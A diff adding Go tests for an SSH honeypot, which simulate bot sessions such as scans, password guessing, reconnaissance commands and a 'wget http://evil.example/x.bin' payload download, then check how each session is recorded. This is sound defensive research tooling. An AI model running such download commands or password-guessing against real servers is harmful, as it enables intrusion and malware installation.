@@ -1,0 +1,209 @@
+package honeypot
+
+import (
+	"crypto/rand"
+	"crypto/rsa"
+	"io"
+	"strings"
+	"testing"
+	"time"
+
+	"honeyfarm/internal/sshwire"
+)
+
+// TestWireLevelCategories drives one real SSH session per paper category
+// against the honeypot and verifies the recorded session classifies as
+// expected — the wire-level path and the record-level generator must
+// agree on the Figure 5 flow. (Classification logic itself lives in the
+// analysis package; here we assert on the record fields it keys on.)
+func TestWireLevelCategories(t *testing.T) {
+	rig := newRig(t, Config{
+		PostAuthTimeout: 200 * time.Millisecond,
+		Fetch:           func(string) ([]byte, error) { return []byte("payload"), nil },
+	})
+
+	type expectation struct {
+		name     string
+		drive    func(t *testing.T)
+		hasCreds bool
+		loggedIn bool
+		hasCmds  bool
+		hasURIs  bool
+	}
+
+	dial := func(t *testing.T, cfg *sshwire.ClientConfig) *sshwire.ClientConn {
+		t.Helper()
+		nc, err := rig.fabric.Dial("203.0.113.77", rig.sshAddr)
+		if err != nil {
+			t.Fatal(err)
+		}
+		cc, err := sshwire.NewClientConn(nc, cfg)
+		if err != nil && cfg.SkipAuth {
+			t.Fatal(err)
+		}
+		return cc
+	}
+
+	cases := []expectation{
+		{
+			name: "NO_CRED scan",
+			drive: func(t *testing.T) {
+				cc := dial(t, &sshwire.ClientConfig{SkipAuth: true})
+				cc.Close()
+			},
+		},
+		{
+			name: "FAIL_LOG scouting",
+			drive: func(t *testing.T) {
+				cc := dial(t, &sshwire.ClientConfig{SkipAuth: true})
+				_, _ = cc.TryPasswords("admin", []string{"a", "b", "c"})
+				cc.Close()
+			},
+			hasCreds: true,
+		},
+		{
+			name: "NO_CMD idle login",
+			drive: func(t *testing.T) {
+				nc, err := rig.fabric.Dial("203.0.113.77", rig.sshAddr)
+				if err != nil {
+					t.Fatal(err)
+				}
+				cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{User: "root", Password: "pw"})
+				if err != nil {
+					t.Fatal(err)
+				}
+				sess, err := cc.OpenSession()
+				if err != nil {
+					t.Fatal(err)
+				}
+				if err := sshwire.RequestShell(sess); err != nil {
+					t.Fatal(err)
+				}
+				// Idle until the honeypot times the session out.
+				_, _ = io.ReadAll(sess)
+				cc.Close()
+			},
+			hasCreds: true, loggedIn: true,
+		},
+		{
+			name: "CMD intrusion",
+			drive: func(t *testing.T) {
+				nc, err := rig.fabric.Dial("203.0.113.77", rig.sshAddr)
+				if err != nil {
+					t.Fatal(err)
+				}
+				cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{User: "root", Password: "pw"})
+				if err != nil {
+					t.Fatal(err)
+				}
+				sess, err := cc.OpenSession()
+				if err != nil {
+					t.Fatal(err)
+				}
+				if err := sshwire.RequestExec(sess, "uname -a; free -m"); err != nil {
+					t.Fatal(err)
+				}
+				_, _ = io.ReadAll(sess)
+				cc.Close()
+			},
+			hasCreds: true, loggedIn: true, hasCmds: true,
+		},
+		{
+			name: "CMD+URI intrusion",
+			drive: func(t *testing.T) {
+				nc, err := rig.fabric.Dial("203.0.113.77", rig.sshAddr)
+				if err != nil {
+					t.Fatal(err)
+				}
+				cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{User: "root", Password: "pw"})
+				if err != nil {
+					t.Fatal(err)
+				}
+				sess, err := cc.OpenSession()
+				if err != nil {
+					t.Fatal(err)
+				}
+				if err := sshwire.RequestExec(sess, "wget http://evil.example/x.bin"); err != nil {
+					t.Fatal(err)
+				}
+				_, _ = io.ReadAll(sess)
+				cc.Close()
+			},
+			hasCreds: true, loggedIn: true, hasCmds: true, hasURIs: true,
+		},
+	}
+
+	for _, c := range cases {
+		c := c
+		t.Run(c.name, func(t *testing.T) {
+			before := len(rig.wait0())
+			rig.expect(1)
+			c.drive(t)
+			recs := rig.wait(t)
+			r := recs[len(recs)-1]
+			if before+1 != len(recs) {
+				t.Fatalf("expected one new record, have %d → %d", before, len(recs))
+			}
+			if got := len(r.Logins) > 0; got != c.hasCreds {
+				t.Errorf("hasCreds = %v, want %v (%+v)", got, c.hasCreds, r.Logins)
+			}
+			if got := r.LoggedIn(); got != c.loggedIn {
+				t.Errorf("loggedIn = %v, want %v", got, c.loggedIn)
+			}
+			if got := len(r.Commands) > 0; got != c.hasCmds {
+				t.Errorf("hasCmds = %v, want %v (%+v)", got, c.hasCmds, r.Commands)
+			}
+			if got := len(r.URIs) > 0; got != c.hasURIs {
+				t.Errorf("hasURIs = %v, want %v (%v)", got, c.hasURIs, r.URIs)
+			}
+		})
+	}
+}
+
+// wait0 returns the records collected so far without waiting.
+func (r *testRig) wait0() []*SessionRecord {
+	r.mu.Lock()
+	defer r.mu.Unlock()
+	return append([]*SessionRecord(nil), r.records...)
+}
+
+// TestRSAHostKeyClient connects with an RSA-only, DH-only client — the
+// profile of older bot toolchains — and verifies the session records.
+func TestRSAHostKeyClient(t *testing.T) {
+	rsaKey, err := rsa.GenerateKey(rand.Reader, 2048)
+	if err != nil {
+		t.Fatal(err)
+	}
+	rig := newRig(t, Config{RSAHostKey: rsaKey})
+	rig.expect(1)
+	nc, err := rig.fabric.Dial("203.0.113.88", rig.sshAddr)
+	if err != nil {
+		t.Fatal(err)
+	}
+	cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{
+		User: "root", Password: "dropbear-pw",
+		KexAlgos:     []string{"diffie-hellman-group14-sha256"},
+		HostKeyAlgos: []string{"rsa-sha2-256"},
+		Version:      "SSH-2.0-dropbear_2019.78",
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	sess, err := cc.OpenSession()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := sshwire.RequestExec(sess, "cat /proc/cpuinfo"); err != nil {
+		t.Fatal(err)
+	}
+	out, _ := io.ReadAll(sess)
+	if !strings.Contains(string(out), "GenuineIntel") {
+		t.Errorf("exec over DH+RSA = %q", out)
+	}
+	cc.Close()
+	recs := rig.wait(t)
+	r := recs[len(recs)-1]
+	if r.ClientVersion != "SSH-2.0-dropbear_2019.78" || !r.LoggedIn() {
+		t.Errorf("record = %+v", r)
+	}
+}
